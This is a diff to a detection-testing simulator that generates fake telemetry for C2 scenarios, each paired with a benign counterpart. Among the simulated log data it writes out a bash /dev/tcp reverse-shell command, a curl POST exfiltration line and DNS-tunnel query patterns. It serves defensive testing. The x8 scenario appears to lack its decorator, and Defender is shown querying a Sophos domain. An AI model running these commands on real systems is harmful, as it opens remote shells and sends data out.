@@ -20,6 +20,7 @@ reference's known false positives, each suppressed by a documented allowlist ent
 analytics (AN1228, AN1225).
 """
 import collections
+import hashlib
 import struct
 
 from c2hunt_sim.world import Host, Recorder
@@ -598,14 +599,18 @@ def fp_esxi_backup_guest_ops(rec, t0):
                      vpxa_user="CORP\\svc-veeam")
 
 def _open_socket(rec, host, when, pid, path, family, protocol, remote=("0.0.0.0", 0),
-                 local=("0.0.0.0", 0), state="", cmdline=None, uid=501):
-    """A process_open_sockets row (the query joins processes for name, path and cmdline)."""
-    rec.osquery(host, when, "pack_c2hunt_process_open_sockets", collections.OrderedDict([
+                 local=("0.0.0.0", 0), state="", cmdline=None, uid=501, parent=None):
+    """A process_open_sockets row (the query joins processes for name, path and cmdline, and
+    the parent process for its pid and path when ``parent`` = (pid, path) is given)."""
+    columns = collections.OrderedDict([
         ("pid", pid), ("name", path.rsplit("/", 1)[-1]), ("path", path),
         ("cmdline", cmdline or path), ("uid", uid), ("fd", 3 + pid % 7),
         ("socket", 1000000 + pid), ("family", family), ("protocol", protocol),
         ("local_address", local[0]), ("local_port", local[1]),
-        ("remote_address", remote[0]), ("remote_port", remote[1]), ("state", state)]))
+        ("remote_address", remote[0]), ("remote_port", remote[1]), ("state", state)])
+    if parent is not None:
+        columns["parent"], columns["parent_path"] = parent
+    rec.osquery(host, when, "pack_c2hunt_process_open_sockets", columns)
 
 
 def _socket_event(rec, host, when, pid, path, remote, action="connect", family=2,
@@ -889,6 +894,222 @@ def benign_hypervisor_agents(rec, t0):
     sandbox = Host("kata07.corp.example", "10.20.4.47", "linux")
     kata = rec.linux_daemon("/usr/bin/kata-agent", ["/usr/bin/kata-agent"], uid=0)
     rec.held_socket(sandbox, kata, _vsock("listen", 1024), t0, t0 + 600)
+def x8_unix_scripted_app_c2(rec, t0):
+    """Application-layer C2 scripted with the tools every Unix host has (AN1226, AN1227): a
+    Python implant in /tmp polling its HTTPS listener on 8443 every minute and uploading
+    archives (Sysmon for Linux through syslog, and the Zeek sensor's conn.log); a bash /dev/tcp reverse shell and a Perl IRC bot run from /var/tmp
+    (auditd); on a Mac, an Automator application whose shell step runs curl against its
+    server every 30 s (osquery socket_events, and process_open_sockets with the parent)."""
+    lnx = Host("lnx31.corp.example", "10.20.2.51", "linux")
+    implant = rec.linux_sysmon_process(lnx, t0, "/usr/bin/python3.11",
+                                       "python3 /tmp/.X11-cache/update.py", "www-data")
+    for beat in range(20):
+        # check-ins fetch a small task; every fifth one uploads a collected archive
+        upload = 900000 if beat % 5 == 4 else rec.rng.randint(700, 900)
+        rec.linux_sysmon_connection(lnx, implant, t0 + 2 + 60.0 * beat + rec.rng.uniform(-6, 6),
+                                    "tcp", "198.51.100.71", 8443,
+                                    zeek={"service": "ssl", "duration": 0.8,
+                                          "orig_bytes": upload,
+                                          "resp_bytes": rec.rng.randint(300, 500)})
+    shell_host = Host("lnx32.corp.example", "10.20.2.52", "linux")
+    shell = rec.linux_exec(shell_host, t0 + 30, "/usr/bin/bash",
+                           ["bash", "-c", "exec 5<>/dev/tcp/203.0.113.90/443; cat <&5 | bash >&5"],
+                           uid=33, auid=4294967295)
+    rec.linux_connect(shell_host, t0 + 30.01, shell, "203.0.113.90", 443)
+    bot = rec.linux_exec(shell_host, t0 + 90, "/usr/bin/perl", ["perl", "/var/tmp/.ircd/bot.pl"],
+                         uid=33, auid=4294967295)
+    rec.linux_connect(shell_host, t0 + 90.2, bot, "198.51.100.73", 6667)
+    mac = Host("mac33.corp.example", "10.20.6.33", "macos")
+    stub = ("/Users/ana/Downloads/Invoice Viewer.app/Contents/MacOS/Automator Application Stub")
+    for beat in range(12):
+        when = t0 + 40 + 30.0 * beat + rec.rng.uniform(-2, 2)
+        pid = 8800 + 3 * beat
+        _socket_event(rec, mac, when, pid, "/usr/bin/curl", ("198.51.100.72", 443))
+        if beat == 0:
+            _open_socket(rec, mac, when + 0.2, pid, "/usr/bin/curl", 2, 6,
+                         remote=("198.51.100.72", 443), local=("10.20.6.33", 52011),
+                         state="ESTABLISHED", parent=(8790, stub),
+                         cmdline="curl -s -X POST --data-binary @- https://198.51.100.72/api/v2/sync")
+
+
+@scenario
+def benign_unix_scripted_tools(rec, t0):
+    """The quiet counterpart of x8: the same tools doing everyday work. pip and curl fetching
+    from outside servers on 443 (a few irregular connections), a Python monitoring agent
+    reporting every 15 s to the internal collector on 8443, netcat checking an internal port
+    (Sysmon for Linux, auditd); on a Mac, curl from Terminal, Homebrew fetching bottles and
+    mDNSResponder on 5353 multicast (osquery)."""
+    lnx = Host("lnx41.corp.example", "10.20.2.61", "linux")
+    pip = rec.linux_sysmon_process(lnx, t0, "/usr/bin/python3.11",
+                                   "python3 -m pip install --upgrade requests", "dev")
+    for k, delay in enumerate((1.0, 1.4, 2.9, 3.1, 7.5)):
+        rec.linux_sysmon_connection(lnx, pip, t0 + delay, "tcp", "151.101.0.223", 443)
+    curl = rec.linux_sysmon_process(lnx, t0 + 60, "/usr/bin/curl",
+                                    "curl -fsSL https://github.com/cli/cli/releases/latest", "dev")
+    rec.linux_sysmon_connection(lnx, curl, t0 + 60.3, "tcp", "140.82.112.3", 443)
+    agent = rec.linux_sysmon_process(lnx, t0 + 5, "/usr/bin/python3.11",
+                                     "python3 /opt/monitoring/agent.py --collector 10.20.0.40:8443",
+                                     "monitor")
+    for beat in range(60):
+        rec.linux_sysmon_connection(lnx, agent, t0 + 6 + 15.0 * beat, "tcp", "10.20.0.40", 8443)
+    admin = Host("lnx42.corp.example", "10.20.2.62", "linux")
+    nc = rec.linux_exec(admin, t0 + 20, "/usr/bin/nc.openbsd", ["nc", "-zv", "10.20.0.20", "445"])
+    rec.linux_connect(admin, t0 + 20.1, nc, "10.20.0.20", 445)
+    wget = rec.linux_exec(admin, t0 + 40, "/usr/bin/wget",
+                          ["wget", "https://downloads.example.org/tool-1.2.tar.gz"])
+    rec.linux_connect(admin, t0 + 40.3, wget, "93.184.216.34", 443)
+    mac = Host("mac43.corp.example", "10.20.6.43", "macos")
+    _socket_event(rec, mac, t0 + 10, 9101, "/usr/bin/curl", ("140.82.112.3", 443))
+    _open_socket(rec, mac, t0 + 10.2, 9101, "/usr/bin/curl", 2, 6, remote=("140.82.112.3", 443),
+                 local=("10.20.6.43", 50433), state="ESTABLISHED", parent=(9002, "/bin/zsh"),
+                 cmdline="curl -O https://github.com/jqlang/jq/releases/download/jq-1.7/jq-macos-arm64")
+    for k, delay in enumerate((100.0, 100.4, 101.9, 130.2)):
+        _socket_event(rec, mac, t0 + delay, 9150 + k, "/usr/bin/curl", ("140.82.121.34", 443))
+    _open_socket(rec, mac, t0 + 200, 377, "/usr/sbin/mDNSResponder", 2, 17,
+                 local=("10.20.6.43", 5353), remote=("224.0.0.251", 5353), uid=65)
+
+
+def _signature(rec, host, when, path, signed, identifier="", team="", authority=""):
+    """A signature-table row for one program (macOS code signing: ``signed`` 0/1, the
+    signing identifier, team identifier and leaf authority; ad-hoc signatures have neither a
+    team nor an authority)."""
+    rec.osquery(host, when, "pack_c2hunt_signature", collections.OrderedDict([
+        ("path", path), ("hash_resources", 1), ("arch", "arm64"), ("signed", signed),
+        ("identifier", identifier),
+        ("cdhash", hashlib.sha1(path.encode()).hexdigest() if signed else ""),
+        ("team_identifier", team), ("authority", authority)]))
+
+
+@scenario
+def x9_macos_unsigned_non_standard_protocol(rec, t0):
+    """AN1256 with code signing: on a Mac, an unsigned implant in Application Support talking
+    UDP to a custom port; an ad-hoc-signed reverse SOCKS proxy built on the host; an unsigned
+    copy of ping in /private/tmp holding an ICMP socket (its name passes the raw-socket
+    allowlist, its signature does not); a Python script speaking UDP to an odd port."""
+    mac = Host("mac34.corp.example", "10.20.6.34", "macos")
+    implant = "/Users/ben/Library/Application Support/.helper/helperd"
+    _signature(rec, mac, t0, implant, 0)
+    _open_socket(rec, mac, t0 + 1, 6610, implant, 2, 17, remote=("198.51.100.80", 53535),
+                 local=("10.20.6.34", 61022), cmdline=implant)
+    proxy = "/Users/ben/.local/bin/rsocx"
+    _signature(rec, mac, t0 + 30, proxy, 1, identifier="rsocx-55554944a1b2c3d4")
+    _socket_event(rec, mac, t0 + 31, 6655, proxy, ("203.0.113.82", 1080))
+    fake_ping = "/private/tmp/ping"
+    _signature(rec, mac, t0 + 60, fake_ping, 0)
+    _open_socket(rec, mac, t0 + 61, 6690, fake_ping, 2, 1, cmdline="/private/tmp/ping -i 5 198.51.100.80")
+    _signature(rec, mac, t0 + 90, "/usr/bin/python3", 1, identifier="com.apple.python3",
+               authority="Software Signing")
+    _open_socket(rec, mac, t0 + 91, 6720, "/usr/bin/python3", 2, 17,
+                 remote=("203.0.113.81", 9999), local=("10.20.6.34", 60111),
+                 cmdline="/usr/bin/python3 /Users/ben/.local/share/sync.py")
+
+
+@scenario
+def benign_macos_signed_network(rec, t0):
+    """The quiet counterpart of x9: Apple's ping (signed, allowlisted), Zoom on its UDP media
+    port, Tailscale (Developer ID) on its WireGuard UDP port, a Homebrew tool (ad-hoc
+    signed on Apple silicon) on HTTPS and DNS, mDNSResponder on multicast."""
+    mac = Host("mac44.corp.example", "10.20.6.44", "macos")
+    _signature(rec, mac, t0, "/sbin/ping", 1, identifier="com.apple.ping",
+               authority="Software Signing")
+    _open_socket(rec, mac, t0 + 1, 901, "/sbin/ping", 2, 1, cmdline="ping -c 3 10.20.0.1")
+    zoom = "/Applications/zoom.us.app/Contents/MacOS/zoom.us"
+    _signature(rec, mac, t0 + 10, zoom, 1, identifier="us.zoom.xos", team="BJ4HAAB9B3",
+               authority="Developer ID Application: Zoom Video Communications, Inc. (BJ4HAAB9B3)")
+    _open_socket(rec, mac, t0 + 11, 1201, zoom, 2, 17, remote=("170.114.52.2", 8801),
+                 local=("10.20.6.44", 62001))
+    tailscale = "/Applications/Tailscale.app/Contents/PlugIns/IPNExtension.appex/Contents/MacOS/IPNExtension"
+    _signature(rec, mac, t0 + 20, tailscale, 1, identifier="io.tailscale.ipn.macsys.network-extension",
+               team="W5364U7YZB", authority="Developer ID Application: Tailscale Inc. (W5364U7YZB)")
+    _open_socket(rec, mac, t0 + 21, 1301, tailscale, 2, 17, remote=("198.51.100.200", 41641),
+                 local=("10.20.6.44", 41641))
+    brew = "/opt/homebrew/Cellar/wget/1.24.5/bin/wget"
+    _signature(rec, mac, t0 + 30, brew, 1, identifier="wget")
+    _open_socket(rec, mac, t0 + 31, 1401, brew, 2, 6, remote=("93.184.216.34", 443),
+                 local=("10.20.6.44", 50211), state="ESTABLISHED")
+    dig = "/opt/homebrew/Cellar/bind/9.18.24/bin/dig"
+    _signature(rec, mac, t0 + 40, dig, 1, identifier="dig")
+    _open_socket(rec, mac, t0 + 41, 1501, dig, 2, 17, remote=("10.20.0.53", 53),
+                 local=("10.20.6.44", 53001))
+    _open_socket(rec, mac, t0 + 50, 377, "/usr/sbin/mDNSResponder", 2, 17,
+                 local=("10.20.6.44", 5353), remote=("224.0.0.251", 5353), uid=65)
+
+
+@scenario
+def x10_sysmon_dns_tunnel_process(rec, t0):
+    """AN1228 on the endpoint (Sysmon Event ID 22): a Cobalt Strike-style DNS beacon injected
+    into rundll32 checks in with short A-record polls (api.<hex id>) and sends data in
+    hex-encoded labels (post.<hex>.<hex>) through the Windows DNS client; a PowerShell DNS
+    channel with short machine-made labels (counter and chunk) to another domain. Sysmon names
+    the program that asked; the resolver's network sensor would only see the DNS server."""
+    ws = Host("ws35.corp.example", "10.20.1.35", "windows")
+    user = "CORP\\omar"
+    beacon = rec.windows_process(ws, t0, "C:\\Windows\\System32\\rundll32.exe",
+                                 "C:\\Windows\\System32\\rundll32.exe", user)
+    session = "".join(rec.rng.choice("0123456789abcdef") for _ in range(8))
+    for i in range(40):
+        when = t0 + 5 + 45.0 * i + rec.rng.uniform(-3, 3)
+        rec.windows_dns_query(ws, beacon, when, "api.%s.%x.static-cdn-edge.example-c2.net"
+                              % (session, 0x10 + i), results="::ffff:0.0.0.0;")
+        if i % 4 == 1:
+            for chunk in range(3):
+                data = "".join(rec.rng.choice("0123456789abcdef") for _ in range(56))
+                rec.windows_dns_query(ws, beacon, when + 1 + 0.3 * chunk,
+                                      "post.%s.%s.%s.static-cdn-edge.example-c2.net"
+                                      % (data[:28], data[28:], session),
+                                      results="::ffff:0.0.0.0;")
+    shell = rec.windows_process(ws, t0 + 60, POWERSHELL,
+                                "powershell.exe -nop -w hidden -File C:\\Users\\Public\\dns.ps1", user)
+    for i in range(30):
+        chunk = "".join(rec.rng.choice("abcdefghijklmnopqrstuvwxyz234567") for _ in range(10))
+        rec.windows_dns_query(ws, shell, t0 + 70 + 20.0 * i, "r%d.%s.tx.example-c2.org"
+                              % (i, chunk), status=9003, results="-")
+
+
+@scenario
+def benign_sysmon_dns_queries(rec, t0):
+    """The quiet counterpart of x10: what Sysmon Event ID 22 shows every day. A browser
+    resolving many names (CDNs on the allowlist, sites with short human-picked names), Chrome's
+    random single-label probes, Defender's reputation lookups, the domain controller's SRV
+    names, Outlook and Teams, and many hosts resolving a few machine-made host names in the
+    company's own zone."""
+    ws = Host("ws45.corp.example", "10.20.1.45", "windows")
+    user = "CORP\\ines"
+    chrome = rec.windows_process(ws, t0, CHROME, '"%s"' % CHROME, user)
+    sites = ["www.wikipedia.org", "en.wikipedia.org", "upload.wikimedia.org", "www.bbc.co.uk",
+             "static.files.bbci.co.uk", "news.ycombinator.com", "github.com", "api.github.com",
+             "avatars.githubusercontent.com", "www.google.com", "fonts.googleapis.com",
+             "fonts.gstatic.com", "www.youtube.com", "i.ytimg.com", "mail.google.com"]
+    for i, site in enumerate(sites):
+        rec.windows_dns_query(ws, chrome, t0 + 2 + 7.0 * i, site, results="::ffff:203.0.113.10;")
+    for i in range(30):
+        edge = "e%d.dscx.akamaiedge.net" % (1000 + 37 * i)
+        rec.windows_dns_query(ws, chrome, t0 + 3 + 11.0 * i, edge, results="::ffff:203.0.113.11;")
+    for i in range(3):
+        probe = "".join(rec.rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(10))
+        rec.windows_dns_query(ws, chrome, t0 + 1 + 0.1 * i, probe, status=9003)
+    defender = rec.windows_service(
+        "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24030.9-0\\MsMpEng.exe",
+        "MsMpEng.exe")
+    for i in range(12):
+        digest = "".join(rec.rng.choice("0123456789abcdef") for _ in range(32))
+        rec.windows_dns_query(ws, defender, t0 + 20 + 9.0 * i, "%s.%s.sophosxl.net"
+                              % (digest[:16], digest[16:]), results="::ffff:127.0.0.1;")
+    svc = rec.windows_service(SVCHOST, "C:\\Windows\\System32\\svchost.exe -k NetworkService")
+    for name in ("_ldap._tcp.dc._msdcs.corp.example", "_kerberos._tcp.corp.example",
+                 "wpad.corp.example", "dc01.corp.example"):
+        rec.windows_dns_query(ws, svc, t0 + 30, name, results="10.20.0.10;")
+    outlook = rec.windows_process(ws, t0 + 40, "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
+                                  "OUTLOOK.EXE", user)
+    for name in ("outlook.office365.com", "autodiscover.corp.example", "substrate.office.com"):
+        rec.windows_dns_query(ws, outlook, t0 + 41, name, results="::ffff:52.96.0.1;")
+    for h in range(8):
+        peer = Host("ws%02d.corp.example" % (50 + h), "10.20.1.%d" % (50 + h), "windows")
+        mstsc = rec.windows_process(peer, t0 + 100 + h, "C:\\Windows\\System32\\mstsc.exe",
+                                    "mstsc.exe", "CORP\\helpdesk%d" % h)
+        for k in range(3):
+            rec.windows_dns_query(peer, mstsc, t0 + 101 + h + k, "desktop-%dk%d%d.corp.example"
+                                  % (h, k, h * 7 % 10), results="10.20.1.%d;" % (60 + k))
 
 
 def build(name, seed=DEFAULT_SEED):
